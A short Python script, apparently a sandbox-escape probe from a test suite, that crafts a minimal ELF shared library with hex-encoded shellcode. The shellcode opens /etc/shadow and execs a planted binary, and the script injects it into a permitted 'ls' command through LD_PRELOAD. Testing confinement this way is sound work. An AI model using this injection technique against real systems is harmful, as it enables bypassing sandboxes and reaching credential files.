"""Code of the script's own inside the process of a granted command, by LD_PRELOAD."""

import json
import os
import shutil
import struct
import subprocess

# open("/etc/shadow"), execve("/tmp/evil"), write(1, "in\n", 3)
CODE = bytes.fromhex(
    "488d3d3400000031f6b8020000000f05488d3d3000000031f631d2b83b0000000f05bf01000000488d352300"
    "0000ba03000000b8010000000f05c32f6574632f736861646f77002f746d702f6576696c00696e0a00"
)


def library() -> bytes:
    """Returns the smallest shared library whose constructor is the code."""
    code_at, dynamic_at = 64 + 2 * 56, 0x200
    table_at = 0x300
    dynamic = [(5, table_at), (6, table_at), (10, 1), (11, 24), (12, code_at), (0, 0)]
    entries = b"".join(struct.pack("<QQ", tag, value) for tag, value in dynamic)
    size = table_at + 64
    head = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + struct.pack(
        "<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 2, 0, 0, 0
    )
    head += struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, size, size, 4096)
    head += struct.pack(
        "<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, len(entries), len(entries), 8
    )
    body = (head + CODE).ljust(dynamic_at, b"\0") + entries
    return body.ljust(size, b"\0")


with open("/tmp/evil.so", "wb") as file:
    file.write(library())
shutil.copyfile("/commands/bin/ls", "/tmp/evil")
os.chmod("/tmp/evil", 0o755)
done = subprocess.run(
    ["ls", "-d", "/"], env={"PATH": os.environ["PATH"], "LD_PRELOAD": "/tmp/evil.so"},
    capture_output=True, text=True, timeout=20, check=False,
)  # fmt: skip
print(json.dumps({"code": done.returncode, "out": done.stdout, "err": done.stderr}))
